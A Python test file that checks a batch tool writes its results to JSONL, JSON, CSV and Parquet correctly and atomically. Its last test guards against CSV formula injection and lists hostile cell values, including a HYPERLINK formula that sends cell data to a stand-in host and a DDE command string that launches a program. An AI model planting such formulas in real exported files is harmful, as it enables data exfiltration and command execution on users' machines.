"""The output of a batch: whole or not there, in four forms, with every column of the input."""

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from langchain_core.messages import BaseMessage

from tests.batch.test_job import Counting
from tpo_graph.batch.job import run_batch
from tpo_graph.batch.output import prepare_output, write_output
from tpo_graph.cli import tpo
from tpo_graph.errors import ConfigurationError, RunNotFoundError
from tpo_graph.rows import make_rows
from tpo_graph.testing import ScriptedChatModel, prefer_longer

HOSTILE = 'a "quoted"\nline,\u2028 <b>, half \ud83d'
VALUES: list[Any] = [
    {"prompt": "one", "id": "1", "n": 1, "list": [1, 2], "mixed": "text", "empty": None},
    {"prompt": "two", "n": 2.5, "mixed": 7, "object": {"a": {}}, "response": "mine"},
    {"prompt": ""},
    {"messages": [{"role": "user", "content": "four"}], "text": HOSTILE},
]
SUFFIXES = [".jsonl", ".json", ".csv", ".parquet"]


def reply(messages: list[BaseMessage], index: int) -> str:
    return "never" if "four" not in messages[-1].text else "even\x1f, \u4f60\n more"


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('output') / 'tpo.db'}"
    run_batch(
        make_rows(VALUES),
        name="b",
        database=url,
        model=ScriptedChatModel(replies=reply),
        reward_model=prefer_longer,
        width=1,
        depth=0,
    )
    return url


def read(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as file:
            return list(csv.DictReader(file))
    if path.suffix == ".parquet":
        import pyarrow.parquet as pq

        return pq.read_table(path).to_pylist()
    text = path.read_text(encoding="utf-8")
    return json.loads(text) if path.suffix == ".json" else [*map(json.loads, text.splitlines())]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_every_form_says_the_same(url: str, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    write_output(path, name="b", database=url)
    rows = read(path)
    assert len(rows) == 4
    none = "" if suffix == ".csv" else None
    assert rows[0]["id"] == "1"
    assert [row["response"] for row in rows] == ["never", "never", none, "even\x1f, \u4f60\n more"]
    assert [str(row["reward"]) for row in rows] == ["5.0", "5.0", str(none), "14.0"]
    assert [str(row["iteration"]) for row in rows] == ["0", "0", str(none), "0"]
    assert [row["stop_reason"] for row in rows] == ["depth", "depth", none, "depth"]
    assert "the query is empty" in rows[2]["error"]
    assert rows[0]["error"] == rows[3]["error"] == none
    usage = rows[0]["usage"]
    usage = json.loads(usage) if isinstance(usage, str) else usage
    assert usage["sample"]["requests"] == 1
    assert rows[1]["input_response"] == "mine"
    assert rows[0]["prompt"] == "one"
    assert rows[3]["text"][:20] == HOSTILE[:20]
    listed = rows[0]["list"]
    assert (json.loads(listed) if isinstance(listed, str) else listed) == [1, 2]
    assert float(rows[1]["n"]) == 2.5
    found = rows[1]["object"]
    assert (json.loads(found) if isinstance(found, str) else found) == {"a": {}}
    if suffix in (".jsonl", ".json"):
        assert rows[3]["text"] == HOSTILE
        assert rows[0]["n"] == 1
        assert "list" not in rows[1]


def test_an_output_is_whole_or_not_there(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("the one before")
    path.chmod(0o640)

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("os.fsync", full)
        with pytest.raises(ConfigurationError, match="No space left"):
            write_output(path, name="b", database=url)
    assert path.read_text() == "the one before"
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]
    write_output(path, name="b", database=url)
    assert len(read(path)) == 4
    assert path.stat().st_mode & 0o777 == 0o640


def test_a_link_stays_a_link(url: str, tmp_path: Path) -> None:
    (tmp_path / "out.json").symlink_to(tmp_path / "real.json")
    write_output(tmp_path / "out.json", name="b", database=url)
    assert (tmp_path / "out.json").is_symlink()
    assert len(read(tmp_path / "real.json")) == 4


def test_what_cannot_be_written_is_said_before_anything_is_run(url: str, tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    source.write_text('"a"')
    (tmp_path / "theirs.jsonl").write_text("precious")
    (tmp_path / "folder.jsonl").mkdir()

    def prepare(name: str, batch: str = "b", *, fresh: bool = False) -> None:
        prepare_output(tmp_path / name, name=batch, database=url, source=str(source), fresh=fresh)

    for name, said in [
        ("out.txt", "ends in none of"),
        ("out", "ends in none of"),
        ("gone/out.jsonl", "a folder that exists"),
        ("folder.jsonl", "cannot be written"),
        ("in.jsonl", "is the input"),
    ]:
        with pytest.raises(ConfigurationError, match=said):
            prepare(name)
    with pytest.raises(ConfigurationError, match="no batch 'new' that could have written it"):
        prepare("theirs.jsonl", "new")
    prepare("theirs.jsonl", "new", fresh=True)
    prepare("theirs.jsonl")
    prepare("out.jsonl", "new")
    with pytest.raises(RunNotFoundError, match="no batch 'new'"):
        write_output(tmp_path / "out.jsonl", name="new", database=url)


def test_an_empty_batch_is_an_empty_output(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'tpo.db'}"
    end = run_batch(
        [], name="b", database=url, model=ScriptedChatModel(), reward_model=prefer_longer
    )
    assert (end.total, end.gain) == (0, None)
    for suffix in SUFFIXES:
        write_output(tmp_path / f"out{suffix}", name="b", database=url)
        assert read(tmp_path / f"out{suffix}") == []


def test_a_run_that_has_not_begun_is_not_named(url: str, tmp_path: Path) -> None:
    """`tpo runs show` would not find it."""
    write_output(tmp_path / "out.jsonl", name="b", database=url)
    assert [bool(row["run_id"]) for row in read(tmp_path / "out.jsonl")] == [1, 1, 0, 1]
    url = f"sqlite:///{tmp_path / 'tpo.db'}"
    models: dict[str, Any] = {"model": "openai:m", "reward_model": "local:r"}
    run_batch(make_rows(["a", "b", "c"]), name="b", database=url, engine=Counting(), **models)
    write_output(tmp_path / "out.jsonl", name="b", database=url)
    rows = read(tmp_path / "out.jsonl")
    assert [(row["error"], row["run_id"]) for row in rows] == [("not run", None)] * 2 + [
        (None, None)
    ]
    shown = CliRunner().invoke(tpo, ["batches", "show", "b", "--json", "--database", url])
    assert [each["run_id"] for each in json.loads(shown.stdout)["errors"]] == [None, None]


def test_no_column_of_the_input_is_lost_to_a_new_name(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'tpo.db'}"
    rows = [
        {"prompt": "Q", "response": "first batch", "error": "old"},
        {"prompt": "R", "response": "other", "input_response": "of a person", "audit": "kept"},
    ]
    options: dict[str, Any] = {"model": ScriptedChatModel(), "reward_model": prefer_longer}
    run_batch(make_rows(rows), name="b", database=url, width=1, depth=0, **options)
    write_output(tmp_path / "out.jsonl", name="b", database=url)
    first, second = read(tmp_path / "out.jsonl")
    assert (first["input_input_response"], first["input_error"]) == ("first batch", "old")
    assert "input_response" not in first
    assert (second["input_input_response"], second["input_response"]) == ("other", "of a person")
    assert second["audit"] == "kept"


def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'tpo.db'}"
    attack = '=HYPERLINK("http://x/?" & A1)'
    cells = [attack, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1"]
    harmless = ["-2.5", "+3", "1e-3", "a=b", "'=1", ""]
    rows = [{"prompt": "Q", "x": c, "n": -2.5} for c in [*cells, *harmless]]
    model = ScriptedChatModel(replies=lambda messages, index: attack)
    run_batch(
        make_rows([{**rows[0], attack: 1}, *rows[1:]]),
        name="b",
        database=url,
        model=model,
        reward_model=prefer_longer,
        width=1,
        depth=0,
    )
    write_output(tmp_path / "out.csv", name="b", database=url)
    written = read(tmp_path / "out.csv")
    assert [row["x"] for row in written] == [*(f"'{c}" for c in cells), *harmless]
    assert {row["n"] for row in written} == {"-2.5"}  # a number stays one
    assert written[0]["response"] == f"'{attack}"
    assert f"'{attack}" in written[0]
    assert attack not in written[0]
